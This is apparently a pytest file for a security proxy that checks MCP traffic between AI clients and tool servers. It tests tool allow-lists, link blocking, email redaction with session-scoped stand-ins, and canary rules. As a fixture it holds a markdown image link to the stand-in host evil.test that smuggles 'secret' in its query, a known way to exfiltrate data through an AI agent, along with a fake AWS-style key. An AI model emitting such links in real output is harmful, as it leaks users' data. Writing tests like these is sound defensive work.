"""What policies say of calls, links, values that come back and canaries, of what MCP's clients and servers say."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from sidecar.mcp.guard import McpGuard
from sidecar.mcp.messages import INVALID_PARAMS, STOPPED
from sidecar.mcp.pins import Pins
from sidecar.policy.compiler import compile_policy
from sidecar.policy.loader import load_text
from sidecar.start import StreamStart
from tests.servers import Serving, serving

HEAD = 'apiVersion: tidegate.dev/v1\nkind: Policy\nmetadata: {name: calls, version: "1"}\nrules:\n'
TOOLS = """  - id: calls
    detect:
      detector: tools
      allow: [search, resources/read]
      arguments: {search: {query: {max_chars: 8}}, resources/read: {uri: {hosts: [notes.example]}}}
    action: {block: {message: Not this one.}}
"""
SECRET = "AKIA" + "QWERTYUIOPASDFGH"


@asynccontextmanager
async def guarded(rules: str) -> AsyncIterator[tuple[McpGuard, Serving]]:
    [loaded] = load_text(HEAD + rules)
    async with serving(compile_policy(loaded)) as running:
        yield McpGuard(running.engine, StreamStart(session_id="s"), Pins("here"), max_message_bytes=1 << 16), running


def message(**fields: Any) -> bytes:
    return json.dumps({"jsonrpc": "2.0", **fields}).encode() + b"\n"


def request(method: str, **params: Any) -> bytes:
    return message(id=1, method=method, params=params)


def call(name: Any, arguments: Any = None) -> bytes:
    return request("tools/call", name=name, arguments=arguments or {})


def sampled(content: Any) -> bytes:
    return message(id=1, result={"role": "assistant", "model": "m", "content": content})


def use(name: str, query: str) -> dict[str, Any]:
    return {"type": "tool_use", "id": "t1", "name": name, "input": {"query": query}}


def result(text: str) -> bytes:
    return message(id=1, result={"content": [{"type": "text", "text": text}]})


@pytest.mark.parametrize(
    "data",
    [
        call("search", {"query": "bread"}),
        message(id=1, method="tools/call", params={"arguments": {"query": "bread"}, "name": "search"}),
        request("tools/call", name="search"),
        request("tools/call", name="search", arguments={"query": "bread"}, _meta={"progressToken": 7}),
        request("resources/read", uri="https://notes.example/a"),
        request("resources/read", uri="https://notes.example/a", _meta={"progressToken": 7}),
        request("prompts/get", name="mail"),
        sampled(use("search", "bread")),
        sampled([{"type": "text", "text": "I look."}, use("search", "bread")]),
    ],
)
async def test_calls_within_the_policy_pass_byte_for_byte(data: bytes) -> None:
    async with guarded(TOOLS) as (guard, _):
        assert (await guard.from_client(data)).onward == data


@pytest.mark.parametrize(
    "data",
    [
        call("mail"),
        call("search", {"query": "bread and butter"}),
        message(id=1, method="tools/call", params={"arguments": {"query": "bread and butter"}, "name": "search"}),
        call("search", "query"),
        call("search", ["query"]),
    ],
)
async def test_a_call_outside_the_policy_is_answered_as_one_that_failed(data: bytes) -> None:
    async with guarded(TOOLS) as (guard, running):
        relayed = await guard.from_client(data)
        assert relayed.onward == b""
        assert json.loads(relayed.back)["result"]["isError"]
        assert "Not this one. (rule calls)" in relayed.back.decode()
        assert [each.policy.rule for each in running.violations] == ["calls"]


async def test_a_read_is_judged_by_its_parameters_and_is_no_call_without_a_name() -> None:
    async with guarded(TOOLS) as (guard, running):
        relayed = await guard.from_client(request("resources/read", uri="https://elsewhere.example/a"))
        assert json.loads(relayed.back)["error"]["code"] == STOPPED
        assert [each.detector.label for each in running.violations] == ["ARGUMENT_NOT_ALLOWED"]
    denying = "  - {id: calls, detect: {detector: tools, deny: [mail]}, action: block}\n"
    async with guarded(denying) as (guard, _):
        data = request("resources/read", uri="note://fine")
        assert (await guard.from_client(data)).onward == data


@pytest.mark.parametrize("content", [use("mail", "x"), [use("search", "bread and butter")]])
async def test_a_call_that_was_sampled_is_judged_too(content: Any) -> None:
    async with guarded(TOOLS) as (guard, _):
        relayed = await guard.from_client(sampled(content))
        assert json.loads(relayed.onward)["error"]["code"] == STOPPED


@pytest.mark.parametrize("params", [["mail", {}], {"name": 5}, {"name": {"a": "mail"}, "arguments": {}}, {}, None])
async def test_a_call_that_names_no_tool_does_not_pass(params: Any) -> None:
    async with guarded("  - {id: any, detect: {detector: secrets}, action: block}\n") as (guard, _):
        relayed = await guard.from_client(message(id=1, method="tools/call", params=params))
        assert (relayed.onward, json.loads(relayed.back)["error"]["code"]) == (b"", INVALID_PARAMS)
        assert (await guard.from_client(message(method="tools/call", params=params))).onward == b""


async def test_a_condition_asks_which_tool_is_called() -> None:
    rules = """  - id: mail-stays-clean
    detect: {detector: secrets}
    when: tool.name == "mail"
    action: block
  - id: reads-stay-clean
    detect: {detector: secrets}
    when: tool.name == "resources/read"
    action: block
"""
    async with guarded(rules) as (guard, running):
        fine = call("keep", {"key": SECRET})
        assert (await guard.from_client(fine)).onward == fine
        assert not (await guard.from_client(call("mail", {"text": SECRET}))).onward
        swapped = message(id=1, method="tools/call", params={"arguments": {"text": SECRET}, "name": "mail"})
        assert not (await guard.from_client(swapped)).onward
        assert not (await guard.from_client(request("resources/read", uri=f"note://{SECRET}"))).onward
        assert not json.loads(
            (await guard.from_client(sampled({**use("mail", ""), "input": {"a": SECRET}}))).onward
        ).get("result")
        assert [each.policy.rule for each in running.violations] == ["mail-stays-clean"] * 2 + [
            "reads-stay-clean",
            "mail-stays-clean",
        ]


LINKS = "  - {id: l, detect: {detector: links, allow: [example.org]}, action: block}\n"
EVIL = "![x](https://evil.test/a?d=secret)"


@pytest.mark.parametrize(
    ("is_client", "data"),
    [
        (True, call("fetch", {"url": "https://evil.test/a"})),
        (True, call("write", {"text": EVIL})),
        (True, request("resources/read", uri="https://evil.test/a?x=1")),
        (True, sampled({"type": "text", "text": EVIL})),
        (False, result(EVIL)),
        (False, message(id=1, result={"content": [], "structuredContent": {"a": EVIL}})),
        (False, message(id=1, result={"tools": [{"name": "a", "description": EVIL}]})),
        (False, message(id=1, result={"contents": [{"uri": "note://a", "text": EVIL}]})),
        (False, message(id=9, method="elicitation/create", params={"message": EVIL, "requestedSchema": {}})),
        (
            False,
            message(
                id=9,
                method="sampling/createMessage",
                params={
                    "messages": [
                        {
                            "role": "user",
                            "content": {
                                "type": "tool_result",
                                "toolUseId": "t",
                                "content": [{"type": "text", "text": EVIL}],
                            },
                        }
                    ]
                },
            ),
        ),
    ],
)
async def test_links_are_read_wherever_they_stand(is_client: bool, data: bytes) -> None:
    async with guarded(LINKS) as (guard, running):
        relayed = await (guard.from_client if is_client else guard.from_server)(data)
        assert b"evil.test" not in relayed.onward
        assert {each.policy.rule for each in running.violations} == {"l"}
    async with guarded(LINKS) as (guard, _):
        fine = data.replace(b"evil.test/a?d=secret", b"example.org/a").replace(b"evil.test", b"example.org")
        assert (await (guard.from_client if is_client else guard.from_server)(fine)).onward == fine


async def test_a_value_that_was_replaced_in_a_result_comes_back_in_a_call_of_the_same_session() -> None:
    rules = "  - {id: p, detect: {detector: pii, labels: [EMAIL_ADDRESS]}, action: {redact: {with: stand_in}}}\n"
    async with guarded(rules) as (guard, running):
        came = json.loads((await guard.from_server(result("Mail bob@corp.com now."))).onward)
        stand_in = came["result"]["content"][0]["text"].split()[1]
        assert "bob" not in stand_in
        sent = await guard.from_client(call("mail", {"to": stand_in, "why": f"for {stand_in}"}))
        assert json.loads(sent.onward)["params"]["arguments"] == {"to": "bob@corp.com", "why": "for bob@corp.com"}
        other = McpGuard(running.engine, StreamStart(session_id="other"), Pins("here"), max_message_bytes=1 << 16)
        assert b"bob" not in (await other.from_client(call("mail", {"to": stand_in}))).onward


@pytest.mark.parametrize(("percent", "is_stopped"), [(100, True), (0, False)])
async def test_a_rule_that_is_a_canary_acts_on_its_side_alone(percent: int, is_stopped: bool) -> None:
    canary = f"{{canary: {{percent: {percent}}}}}"
    rule = f"  - {{id: c, detect: {{detector: secrets}}, action: block, enforcement: {canary}}}\n"
    async with guarded(rule) as (guard, running):
        relayed = await guard.from_client(call("mail", {"text": SECRET}))
        assert bool(relayed.back) is is_stopped
        assert [each.policy.rule for each in running.violations] == ["c"]


@pytest.mark.parametrize(
    ("where", "is_stopped"),
    [
        ("channels: [tool_arguments]", True),
        ("channels: [content]", False),
        ("parts: [model]", True),
        ("parts: [tool_result]", False),
    ],
)
async def test_rules_choose_by_part_and_channel(where: str, is_stopped: bool) -> None:
    async with guarded(f"  - {{id: s, detect: {{detector: secrets, {where}}}, action: block}}\n") as (guard, _):
        assert bool((await guard.from_client(call("mail", {"text": SECRET}))).back) is is_stopped
